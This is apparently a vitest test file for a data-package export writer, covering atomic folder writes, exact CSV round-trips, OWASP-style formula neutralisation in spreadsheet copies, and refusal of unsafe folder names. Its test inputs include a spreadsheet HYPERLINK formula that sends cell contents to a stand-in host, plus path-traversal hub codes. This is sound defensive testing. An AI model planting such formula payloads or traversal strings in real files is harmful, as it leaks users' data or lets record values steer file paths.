// A package is written whole into the export folder or not at all, holds exact values that the
// independent reader gets back unchanged, and its name is never steered by anything but checked values.
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { readPackage } from '../testing/readPackage'
import { households, hostileHouseholds, hostileMembers, HOSTILE_TEXTS, manyHouseholds, manyMembers, members, sampleMetadata } from '../testing/sampleResources'
import { PackageError } from './errors'
import { hubOfPackageFolder, packageFolderName, removeStalePartials, writePackage, type PackageProgress, type WritePackageOptions } from './packageFolder'
import type { Row } from './resource'

let exportFolder: string
beforeEach(() => {
  exportFolder = mkdtempSync(join(tmpdir(), 'export-folder-'))
})
afterEach(() => {
  rmSync(exportFolder, { recursive: true, force: true })
})

const CREATED = new Date('2026-11-24T03:14:20.123Z')
const options = (extra: Partial<WritePackageOptions> = {}): WritePackageOptions => ({
  exportFolder,
  createdAt: CREATED,
  title: 'Casebook export from Test hub',
  metadata: sampleMetadata(),
  resources: [
    { definition: households, rows: hostileHouseholds },
    { definition: members, rows: hostileMembers }
  ],
  ...extra
})

async function expectRefusal(promise: Promise<unknown>, code: PackageError['code'], message?: RegExp) {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e
  )
  expect(error).toBeInstanceOf(PackageError)
  expect((error as PackageError).code).toBe(code)
  if (message) expect((error as PackageError).message).toMatch(message)
}

/** What a formula-neutralised copy of a text cell should be, written again here from the OWASP advice. */
const owaspCopy = (text: string) => (/^[=+\-@\t\r\n\0]/.test(text) ? `'${text}` : text)

describe('writePackage', () => {
  it('writes hostile values that the independent reader gets back exactly', async () => {
    const written = await writePackage(options())

    expect(written.name).toBe('TH-20261124T031420Z-000001')
    expect(readdirSync(exportFolder)).toEqual(['TH-20261124T031420Z-000001'])
    const read = await readPackage(written.folder)
    expect(read.resources.households!.rows).toEqual(hostileHouseholds())
    expect(read.resources.members!.rows).toEqual(hostileMembers())
    // Every hostile text is there, untouched, formula-looking ones included.
    expect(read.resources.members!.rows.map((row) => row.given_name)).toEqual(HOSTILE_TEXTS)
    expect(readFileSync(join(written.folder, 'households.csv'), 'utf8')).toContain(',"=HYPERLINK(""http://example.invalid/?""&A1,""Click"")"')
  })

  it('describes the package in datapackage.json as a Frictionless Tabular Data Package', async () => {
    const written = await writePackage(options())
    const descriptor = JSON.parse(readFileSync(join(written.folder, 'datapackage.json'), 'utf8'))
    expect(descriptor).toEqual(written.descriptor)
    expect(descriptor).toMatchObject({
      profile: 'tabular-data-package',
      name: 'th-20261124t031420z-000001',
      title: 'Casebook export from Test hub',
      created: '2026-11-24T03:14:20.123Z'
    })
    expect(descriptor.resources.map((r: any) => [r.name, r.path])).toEqual([
      ['households', 'households.csv'],
      ['members', 'members.csv']
    ])
    const [resource] = descriptor.resources
    expect(resource).toMatchObject({
      profile: 'tabular-data-resource',
      title: 'Households',
      description: 'One row per household',
      format: 'csv',
      mediatype: 'text/csv',
      encoding: 'utf-8',
      dialect: { delimiter: ',', lineTerminator: '\r\n', quoteChar: '"', doubleQuote: true, header: true }
    })
    expect(resource.hash).toMatch(/^sha256:[0-9a-f]{64}$/)
    expect(resource.bytes).toBe(readFileSync(join(written.folder, 'households.csv')).length)
    expect(descriptor.resources[1].schema.foreignKeys).toEqual([
      { fields: ['household_id'], reference: { resource: 'households', fields: ['id'] } },
      { fields: ['parent_id'], reference: { resource: '', fields: ['id'] } }
    ])
    expect(descriptor.casebook).toEqual({
      ...sampleMetadata(),
      rowCounts: { households: HOSTILE_TEXTS.length, members: HOSTILE_TEXTS.length },
      spreadsheetCopies: [
        {
          resource: 'households',
          path: 'spreadsheet/households.csv',
          bytes: written.spreadsheetCopies[0]!.bytes,
          hash: `sha256:${written.spreadsheetCopies[0]!.sha256}`
        },
        {
          resource: 'members',
          path: 'spreadsheet/members.csv',
          bytes: written.spreadsheetCopies[1]!.bytes,
          hash: `sha256:${written.spreadsheetCopies[1]!.sha256}`
        }
      ]
    })
    expect(written.files.map((f) => [f.path, f.rows])).toEqual([
      ['households.csv', HOSTILE_TEXTS.length],
      ['members.csv', HOSTILE_TEXTS.length]
    ])
    expect(written.descriptorFile.bytes).toBe(readFileSync(join(written.folder, 'datapackage.json')).length)
  })

  it('writes spreadsheet copies with a BOM, formulas neutralised, negative numbers left as numbers', async () => {
    const written = await writePackage(options())
    const read = await readPackage(written.folder)
    expect(readFileSync(join(written.folder, 'spreadsheet/members.csv')).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))

    const copy = read.spreadsheetCopies.find((c) => c.resource === 'members')!
    const [header, ...records] = copy.records
    expect(header).toEqual(['id', 'household_id', 'parent_id', 'given_name', 'score', 'weight', 'date_of_birth'])
    const exact = hostileMembers()
    records.forEach((record, i) => {
      expect(record[3]).toBe(owaspCopy(exact[i]!.given_name))
      expect(record[4]).toBe(exact[i]!.score === null ? '' : String(exact[i]!.score))
    })
    expect(records.some((record) => record[4]!.startsWith('-'))).toBe(true) // there were negative scores, kept
    const byText = new Map(records.map((record, i) => [exact[i]!.given_name, record[3]]))
    expect(byText.get('=HYPERLINK("http://example.invalid/?"&A1,"Click")')).toBe(`'=HYPERLINK("http://example.invalid/?"&A1,"Click")`)
    expect(byText.get('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(byText.get('\tstarts with a tab')).toBe("'\tstarts with a tab")
    expect(byText.get('Smith, Jones')).toBe('Smith, Jones')
    // And the package's own file holds the exact value.
    expect(read.resources.members!.rows.find((row) => row.given_name === '@SUM(A1:A9)')).toBeDefined()
  })

  it('leaves the copies out when asked', async () => {
    const written = await writePackage(options({ spreadsheetCopies: false }))
    expect(existsSync(join(written.folder, 'spreadsheet'))).toBe(false)
    expect(written.descriptor.casebook.spreadsheetCopies).toEqual([])
    await readPackage(written.folder)
  })

  it('reports progress as rows are written, against the total when every resource gave one', async () => {
    const seen: PackageProgress[] = []
    await writePackage(
      options({
        resources: [
          { definition: households, rows: () => manyHouseholds(3_000), expectedRows: 3_000 },
          { definition: members, rows: () => manyMembers(3_000, 3), expectedRows: 9_000 }
        ],
        onProgress: (p) => seen.push(p)
      })
    )
    expect(seen.every((p) => p.totalRows === 12_000 && p.resourceCount === 2)).toBe(true)
    const done = seen.map((p) => p.rowsWritten)
    expect(done).toEqual([...done].sort((a, b) => a - b))
    expect(done.at(-1)).toBe(12_000)
    expect(seen.filter((p) => p.resource === 'members' && p.rowsWritten > 3_000 && p.rowsWritten < 12_000).length).toBeGreaterThan(0)
    expect(seen[0]).toEqual({ resource: 'households', resourceIndex: 0, resourceCount: 2, rowsWritten: 0, totalRows: 12_000 })
  })

  it('never reports more rows written than the total, when the count made beforehand fell short', async () => {
    const seen: PackageProgress[] = []
    await writePackage(
      options({
        resources: [
          { definition: households, rows: () => manyHouseholds(20_000), expectedRows: 100 },
          { definition: members, rows: () => manyMembers(10, 1), expectedRows: 10 }
        ],
        onProgress: (p) => seen.push(p)
      })
    )
    expect(seen.every((p) => p.rowsWritten <= p.totalRows!)).toBe(true)
    expect(seen.at(-1)).toMatchObject({ rowsWritten: 20_010, totalRows: 20_010 })
  })

  it('reports progress without a total when a resource gave no count', async () => {
    const seen: PackageProgress[] = []
    await writePackage(options({ onProgress: (p) => seen.push(p) }))
    expect(seen.every((p) => p.totalRows === undefined)).toBe(true)
    expect(seen.at(-1)!.rowsWritten).toBe(2 * HOSTILE_TEXTS.length)
  })

  it('leaves neither a package nor a partial folder when the rows fail part-way, and closes the query', async () => {
    let closed = false
    async function* failing(): AsyncGenerator<Row> {
      try {
        let n = 0
        for (const row of manyMembers(20_000, 1)) {
          if (++n === 15_000) throw new Error('the database went away')
          yield row
        }
      } finally {
        closed = true
      }
    }
    await expect(
      writePackage(
        options({
          resources: [
            { definition: households, rows: () => manyHouseholds(20_000) },
            { definition: members, rows: failing }
          ]
        })
      )
    ).rejects.toThrow('the database went away')
    expect(closed).toBe(true)
    expect(readdirSync(exportFolder)).toEqual([])
  })

  it('stops at a row that contradicts its schema, naming it, and leaves nothing', async () => {
    const rows = function* () {
      yield* manyHouseholds(5_000)
      yield { ...hostileHouseholds()[0]!, id: 'not-a-uuid' }
    }
    await expectRefusal(
      writePackage(options({ resources: [{ definition: households, rows }] })),
      'INVALID_ROW',
      /households: row 5001, field id: string "not-a-uuid" is not a valid uuid/
    )
    expect(readdirSync(exportFolder)).toEqual([])
  })

  it('stops when the caller aborts, and leaves nothing', async () => {
    const controller = new AbortController()
    await expectRefusal(
      writePackage(
        options({
          resources: [
            { definition: households, rows: () => manyHouseholds(20_000) },
            { definition: members, rows: () => manyMembers(20_000, 3) }
          ],
          onProgress: (p) => {
            if (p.rowsWritten > 30_000) controller.abort()
          },
          signal: controller.signal
        })
      ),
      'ABORTED'
    )
    expect(readdirSync(exportFolder)).toEqual([])
  })

  it('leaves nothing when the caller refuses the rename at the last moment (its validation report found an error)', async () => {
    let asked = ''
    await expect(
      writePackage(
        options({
          beforeRename: async (name) => {
            asked = name
            // Every file is whole by now, datapackage.json included: only the rename is left.
            const [partial] = readdirSync(exportFolder).filter((n) => n.startsWith('.partial-') && !n.endsWith('.owner'))
            expect(readdirSync(join(exportFolder, partial!))).toContain('datapackage.json')
            throw new Error('Nothing was sent: the validation report has 1 error to fix first')
          }
        })
      )
    ).rejects.toThrow('Nothing was sent')
    expect(asked).toBe(packageFolderName('TH', CREATED, 1))
    expect(readdirSync(exportFolder)).toEqual([])
  })

  it.each(['../TH', 'TH/..', 'th', 'T', 'TOOLONG', 'A B', 'AB\u0000', '', 'ÅB', 'TH\n'])(
    'refuses the hub code %j: no record value steers a path',
    async (hubCode) => {
      await expectRefusal(writePackage(options({ metadata: sampleMetadata({ hubCode }) })), 'INVALID_PACKAGE_NAME', /hub code/)
      expect(readdirSync(exportFolder)).toEqual([])
    }
  )

  it.each([0, -1, 1.5, 1_000_000, Number.NaN])('refuses the package sequence %s', async (packageSequence) => {
    await expectRefusal(writePackage(options({ metadata: sampleMetadata({ packageSequence }) })), 'INVALID_PACKAGE_NAME', /sequence/)
    expect(readdirSync(exportFolder)).toEqual([])
  })

  it('names packages from checked values only', () => {
    expect(packageFolderName('ABCDE', new Date('2027-01-02T03:04:05.999Z'), 999_999)).toBe('ABCDE-20270102T030405Z-999999')
    expect(() => packageFolderName('TH', new Date('not a date'), 1)).toThrow(/not a real date/)
  })

  it('never replaces a package of the same name, and leaves it as it was', async () => {
    await writePackage(options())
    const before = readFileSync(join(exportFolder, 'TH-20261124T031420Z-000001', 'datapackage.json'))
    await expectRefusal(writePackage(options({ title: 'Another' })), 'PACKAGE_EXISTS')
    expect(readFileSync(join(exportFolder, 'TH-20261124T031420Z-000001', 'datapackage.json'))).toEqual(before)
    expect(readdirSync(exportFolder)).toEqual(['TH-20261124T031420Z-000001'])

    mkdirSync(join(exportFolder, 'TH-20261124T031420Z-000002')) // even an empty folder, which rename would replace
    await expectRefusal(writePackage(options({ metadata: sampleMetadata({ packageSequence: 2 }) })), 'PACKAGE_EXISTS')
  })

  it('refuses an export folder that is not there rather than making one', async () => {
    const missing = join(exportFolder, 'not-mounted')
    await expectRefusal(writePackage(options({ exportFolder: missing })), 'EXPORT_FOLDER_MISSING')
    expect(existsSync(missing)).toBe(false)
  })

  it('refuses a foreign key to a resource the package does not hold, before writing anything', async () => {
    await expectRefusal(writePackage(options({ resources: [{ definition: members, rows: hostileMembers }] })), 'INVALID_RESOURCE', /refers to households/)
    expect(readdirSync(exportFolder)).toEqual([])
  })
})

describe('hubOfPackageFolder', () => {
  it('reads the hub code of a package folder, and of one moved aside because its run could not be recorded', () => {
    const name = packageFolderName('ABCDE', CREATED, 7)
    expect(hubOfPackageFolder(name)).toBe('ABCDE')
    expect(hubOfPackageFolder(`.failed-${name}`)).toBe('ABCDE')
  })

  it.each([
    '.partial-0123456789abcdef',
    '.interrupted-TH-20261124T031420Z-000001',
    'TH-20261124T031420Z-000001.zip',
    'th-20261124t031420z-000001',
    'datapackage.json'
  ])('finds no hub in %s', (name) => {
    expect(hubOfPackageFolder(name)).toBeNull()
  })
})

describe('removeStalePartials', () => {
  const partial = (name: string, owner?: object) => {
    mkdirSync(join(exportFolder, name))
    writeFileSync(join(exportFolder, name, 'families.csv'), 'id\r\n')
    if (owner) writeFileSync(join(exportFolder, `${name}.owner`), JSON.stringify(owner))
  }

  it('removes what dead runs left and keeps what live runs are writing', async () => {
    const now = new Date().toISOString()
    partial('.partial-dead', { host: hostname(), pid: 2 ** 30, startedAt: now }) // beyond any pid_max
    partial('.partial-live', { host: hostname(), pid: process.pid, startedAt: now })
    partial('.partial-unowned')
    partial('.partial-elsewhere-now', { host: 'another-desk', pid: 1, startedAt: now })
    partial('.partial-elsewhere-old', { host: 'another-desk', pid: 1, startedAt: '2026-11-01T00:00:00.000Z' })
    writeFileSync(join(exportFolder, '.partial-gone.owner'), JSON.stringify({ host: hostname(), pid: 2 ** 30 }))
    mkdirSync(join(exportFolder, 'TH-20261124T031420Z-000001'))
    utimesSync(join(exportFolder, '.partial-unowned'), new Date(0), new Date(0))

    const removed = await removeStalePartials(exportFolder)
    expect(removed.sort()).toEqual(['.partial-dead', '.partial-elsewhere-old', '.partial-gone', '.partial-unowned'])
    expect(readdirSync(exportFolder).sort()).toEqual([
      '.partial-elsewhere-now',
      '.partial-elsewhere-now.owner',
      '.partial-live',
      '.partial-live.owner',
      'TH-20261124T031420Z-000001'
    ])
  })

  it('runs at the start of every write', async () => {
    partial('.partial-dead', { host: hostname(), pid: 2 ** 30, startedAt: new Date().toISOString() })
    await writePackage(options())
    expect(readdirSync(exportFolder)).toEqual(['TH-20261124T031420Z-000001'])
  })
})
